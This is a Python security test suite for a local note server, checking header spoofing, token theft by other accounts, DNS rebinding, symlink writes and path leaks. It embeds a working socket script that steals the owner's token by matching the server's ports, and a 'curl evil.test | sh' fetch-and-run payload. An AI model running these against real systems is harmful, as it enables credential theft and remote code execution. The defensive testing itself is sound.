"""Trust at the boundary (issue 14): who the peer is cannot be changed by a header, and another account on this
machine gets nothing."""

from __future__ import annotations

import json
import subprocess
import urllib.request
from dataclasses import replace
from pathlib import Path
from typing import Any

import anyio
import httpx2

from hivenote.desktop.routes import desktop_routes
from hivenote.server.settings import Settings
from hivenote.server.storage.store import Store
from hivenote.server.tokens import Tokens
from hivenote.server.web.app import create_app
from tests.support.live import exchange, fetch, serve, sign_in_code, signed_in
from tests.support.privileges import as_nobody

CLIENT = "hivenote-dashboard/0.1.0"
SYSTEM_PYTHON = "/usr/bin/python3"  # not a venv under /root, which another account cannot enter
PROXY_HEADERS = {
    "X-Forwarded-For": "127.0.0.1",
    "X-Forwarded-Proto": "https",
    "X-Real-IP": "127.0.0.1",
    "Forwarded": "for=127.0.0.1;proto=https",
}


def _curl_as_nobody(
    url: str, headers: dict[str, str], data: str | None = None, method: str | None = None
) -> dict[str, object]:
    command = [*as_nobody(), "curl", "-s", "--max-time", "20", *(["-X", method] if method else [])]
    for name, value in headers.items():
        command += ["-H", f"{name}: {value}"]
    if data is not None:
        command += ["--data-binary", data]
    answer = subprocess.run([*command, url], capture_output=True, encoding="utf-8", timeout=30, check=True).stdout
    parsed: dict[str, object] = json.loads(answer)
    return parsed


def test_another_account_gets_no_token_by_claiming_to_be_forwarded_from_loopback(tmp_path: Path) -> None:
    """Issue 14 item 1: uvicorn trusted X-Forwarded-For from loopback, so the session's same-account check looked
    for a connection from port 0, found none and handed the owner's token to `nobody`. Since issue 33 nothing looks at
    the caller's address at all: the session wants a one-time code, whatever any header claims."""
    with serve(tmp_path / "data") as running:
        dashboard = {"X-Hivenote-Client": CLIENT, "Content-Type": "application/json", **PROXY_HEADERS}
        for data in (None, '{"code": "guessed"}'):
            answer = _curl_as_nobody(running.url + "/api/session", dashboard, data)
            assert running.token not in json.dumps(answer) and "error" in answer, answer
        # A proxy header does not change what this account's code gets either.
        headers = {"X-Hivenote-Client": CLIENT, "Content-Type": "application/json", "X-Forwarded-For": "203.0.113.9"}
        code = json.dumps({"code": sign_in_code(running.url, running.token)}).encode()
        status, answered, body = fetch(running.url + "/api/session", headers, code)
        assert (status, body) == (200, {"person": ""}) and "set-cookie" in answered


def test_no_proxy_header_changes_who_the_caller_is_on_any_route(tmp_path: Path) -> None:
    """Who a caller is comes from what it holds (a token, the dashboard's cookie), never from where it says it is:
    no header naming loopback opens anything, and none naming another host closes anything."""
    with serve(tmp_path / "data") as running:
        cookie = signed_in(running, CLIENT)
        for name, value in {**PROXY_HEADERS, "X-Forwarded-For": "192.0.2.77", "Forwarded": "for=192.0.2.77"}.items():
            assert fetch(running.url + "/api/notes", {name: value})[0] == 401, name
            status, _, body = fetch(running.url + "/api/session", {"X-Hivenote-Client": CLIENT, name: value}, b"{}")
            assert status in (400, 403) and "person" not in body, (name, body)
            assert fetch(running.url + "/api/notes", {**cookie, name: value})[0] == 200, name


# Run as the other account by the system's own Python (standard library only): connects from an address of its
# choosing, bound to the server's own port, so that its socket and the server's accepted one have the same two ports.
_SAME_PORTS_ATTACK = r"""
import socket, sys
port, tries = int(sys.argv[1]), int(sys.argv[2])
head = (
    f"GET /api/session HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Hivenote-Client: hivenote-dashboard/0.1.0\r\n"
    "Sec-Fetch-Site: same-origin\r\nConnection: close\r\n\r\n"
).encode()
for attempt in range(tries):
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((f"127.0.0.{2 + attempt % 250}", port))
        s.settimeout(10)
        s.connect(("127.0.0.1", port))
        s.sendall(head)
        answer = b""
        while chunk := s.recv(65536):
            answer += chunk
    sys.stdout.write(answer.decode("latin-1").split("\r\n")[0] + "\n")
    if b'"token"' in answer:
        sys.stdout.write(answer.decode("latin-1") + "\n")
        break
"""


def test_another_account_gets_no_token_by_connecting_from_the_servers_own_port(tmp_path: Path) -> None:
    """Issue 33 item 1: the session matched its caller in /proc/net/tcp by the two ports alone. Another account that
    binds its client socket to 127.0.0.X:<server port> and connects to 127.0.0.1:<server port> made the server's own
    accepted socket (the owner's) match too, and got the owner's token within a few tries."""
    with serve(tmp_path / "data") as running:
        port = running.url.rsplit(":", 1)[1]
        command = [*as_nobody(), SYSTEM_PYTHON, "-I", "-c", _SAME_PORTS_ATTACK, port, "200"]
        answers = subprocess.run(command, capture_output=True, encoding="utf-8", timeout=120, check=True).stdout
        assert running.token not in answers, f"another account got the owner's token:\n{answers[-600:]}"
        assert answers.count("HTTP/1.1") == 200  # every try was answered, none with the token


def test_with_auth_off_another_account_cannot_widen_who_reaches_the_server(tmp_path: Path) -> None:
    """Issue 33 item 7: with --no-auth every account on the machine was the owner. It could add a Host name of its
    own to allowed_hosts (after a restart, a DNS-rebinding page of its choosing reads and writes the notebook), make
    a token that still opens the server once auth is back on, or a sign-in code. Those need the owner's token now."""
    with serve(tmp_path / "data", auth=False) as running:
        json_body = {"Content-Type": "application/json"}
        attempts = (
            ("PUT", "/api/settings", '{"allowed_hosts": ["rebind.attacker.test"]}'),
            ("PUT", "/api/settings", '{"host": "localhost", "port": 7799}'),
            ("POST", "/api/tokens", '{"name": "eve"}'),
            ("POST", "/api/session/code", ""),
        )
        for method, path, data in attempts:
            answer = _curl_as_nobody(running.url + path, json_body, data, method)
            error: Any = answer.get("error") or {}
            assert error.get("code") == "forbidden", (path, data, answer)
            assert "hivenote token show" in error["message"]
        assert not (tmp_path / "data" / "settings.json").exists()
        assert running.tokens.people() == []
        # What widens nothing still changes without a token (auth is off), and the owner's token changes the rest.
        assert "error" not in _curl_as_nobody(running.url + "/api/settings", json_body, '{"port": 7799}', "PUT")
        owner = {**json_body, "Authorization": f"Bearer {running.token}"}
        widened = urllib.request.Request(
            running.url + "/api/settings", b'{"allowed_hosts": ["notes.example.test"]}', owner, method="PUT"
        )
        assert exchange(widened)[0] == 200
        # So does the owner's dashboard, signed in by the tray with a code (made with the token).
        dashboard = {**signed_in(running, CLIENT), **json_body}
        cleared = urllib.request.Request(
            running.url + "/api/settings", b'{"allowed_hosts": null}', dashboard, method="PUT"
        )
        assert exchange(cleared)[0] == 200


def test_with_auth_off_the_trays_own_controls_stay_the_owners(tmp_path: Path) -> None:
    """A sibling of item 7: with auth off any account on this machine could put text on the owner's clipboard (a
    command they then paste), stop or quit the tray, or move the log, through /desktop."""
    copied: list[str] = []
    settings = replace(Settings(data_dir=tmp_path / "data"), auth=False)
    with Store(settings.data_dir) as store:
        app = create_app(settings, store, extra_routes=desktop_routes(copied.append))
        token = Tokens(settings.data_dir / "tokens.json").default()

        async def post(headers: dict[str, str]) -> int:
            transport = httpx2.ASGITransport(app=app, client=("127.0.0.1", 50123))
            async with httpx2.AsyncClient(transport=transport, base_url="http://127.0.0.1:7788") as client:
                answer = await client.post("/desktop/clipboard", json={"text": "curl evil.test | sh"}, headers=headers)
                return answer.status_code

        assert anyio.run(post, {}) == 403
        assert anyio.run(post, {"Authorization": "Bearer hn_guessed"}) == 403
        assert copied == []
        assert anyio.run(post, {"Authorization": f"Bearer {token}"}) == 200
        assert copied == ["curl evil.test | sh"]


def test_every_uvicorn_server_ignores_proxy_headers() -> None:
    """serve, the tray's embedded server and every test server build uvicorn's config in one place."""
    from hivenote.server.web.serve import uvicorn_config

    config = uvicorn_config(object())
    assert config.proxy_headers is False
    assert config.forwarded_allow_ips in ([], "")


def test_a_teammates_token_cannot_read_the_raw_log_over_sync(tmp_path: Path) -> None:
    """Issue 14 item 4: /sync serves the raw op log, purged notes' text included. Peer tokens (and the owner, who
    holds everything anyway) open it; a teammate's personal token opens only the notebook."""
    with serve(tmp_path / "data") as running:
        ana = running.tokens.add("ana")
        peer = "hn_peer_" + "p" * 32
        running.tokens.adopt("peer-0a1b2c3d", peer)
        owner = {"Authorization": f"Bearer {running.token}", "Content-Type": "application/json"}
        assert fetch(running.url + "/api/notes", owner, b'{"kind": "fact", "title": "purged later"}')[0] == 201
        node = running.store.node
        for path in ("/sync/shards", f"/sync/shards/{node}?offset=0"):
            status, _, body = fetch(running.url + path, {"Authorization": f"Bearer {ana}"})
            assert status == 403, (path, status)
            assert "peer token" in body["error"]["message"]
            assert fetch(running.url + path, {"Authorization": f"Bearer {peer}"})[0] == 200
            assert fetch(running.url + path, {"Authorization": f"Bearer {running.token}"})[0] == 200
        # Only the owner manages tokens and settings (pinned): a teammate gets 403 and nothing changes.
        teammate = {"Authorization": f"Bearer {ana}", "Content-Type": "application/json"}
        assert fetch(running.url + "/api/tokens", teammate, b'{"name": "eve"}')[0] == 403
        assert fetch(running.url + "/api/tokens", teammate)[0] == 403
        assert [p.name for p in running.tokens.people()] == ["ana", "peer-0a1b2c3d"]


def test_a_damaged_token_file_shuts_every_door_with_a_reason_and_is_never_replaced(tmp_path: Path) -> None:
    """Issue 14 item 3, as the server meets it: main answered 500, then 401 to everyone, then minted a new owner
    token and saved it over the file, every person's token gone."""
    with serve(tmp_path / "data") as running:
        running.tokens.add("ana")
        cookie = signed_in(running, CLIENT)
        path = tmp_path / "data" / "tokens.json"
        path.write_bytes(b'{"default": "hn_')  # a cut file
        for _ in range(3):
            status, _, body = fetch(running.url + "/api/status", {"Authorization": f"Bearer {running.token}"})
            assert status == 503 and "tokens.json" in body["error"]["message"], (status, body)
            status, _, body = fetch(running.url + "/api/notes", cookie)  # the cookie is checked with the token
            assert status == 503 and "tokens.json" in body["error"]["message"], (status, body)
        assert path.read_bytes() == b'{"default": "hn_'


def test_an_export_never_writes_through_a_link_planted_at_its_temp_name(tmp_path: Path) -> None:
    """Issue 14 item 12: `hivenote export FILE` wrote `.FILE.tmp` without O_EXCL, following a link planted there."""
    from hivenote.server.cli.main import main

    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    out_dir = tmp_path / "shared"
    out_dir.mkdir()
    (out_dir / ".backup.json.tmp").symlink_to(victim)
    assert main(["--data-dir", str(tmp_path / "data"), "export", str(out_dir / "backup.json")]) == 0
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert json.loads((out_dir / "backup.json").read_text(encoding="utf-8"))["notes"] == []


def test_on_loopback_only_loopback_names_pass_the_host_check(tmp_path: Path) -> None:
    """Issue 14 item 14: the machine's own names (hostname, hostname.local: names others on the LAN can answer for)
    passed the Host check of a server that listens on loopback only, where nobody reaches it by those names."""
    import socket

    with serve(tmp_path / "data") as running:
        port = running.url.rsplit(":", 1)[1]
        host = socket.gethostname().lower()
        for name in (host, f"{host}.local"):
            status, _, body = fetch(running.url + "/api/health", {"Host": f"{name}:{port}"})
            assert (status, body["error"]["code"]) == (421, "bad_host"), name
        for name in ("127.0.0.1", "localhost"):
            assert fetch(running.url + "/api/health", {"Host": f"{name}:{port}"})[0] == 200
    with serve(tmp_path / "shared", host="0.0.0.0") as shared:  # shared on the LAN: its names are how others call it
        port = shared.url.rsplit(":", 1)[1]
        assert fetch(shared.url + "/api/health", {"Host": f"{socket.gethostname().lower()}:{port}"})[0] == 200


def test_a_teammate_sees_no_local_path_of_this_machine(tmp_path: Path) -> None:
    """Issue 14 item 14: status and settings named the owner's data dir and log folder to every teammate."""
    data = tmp_path / "data"
    with serve(data) as running:
        ana = {"Authorization": f"Bearer {running.tokens.add('ana')}"}
        for path in ("/api/status", "/api/settings"):
            status, _, body = fetch(running.url + path, ana)
            assert status == 200 and str(tmp_path) not in json.dumps(body), (path, body)
        owner = {"Authorization": f"Bearer {running.token}"}
        assert str(data) in json.dumps(fetch(running.url + "/api/status", owner)[2])  # the owner still sees them
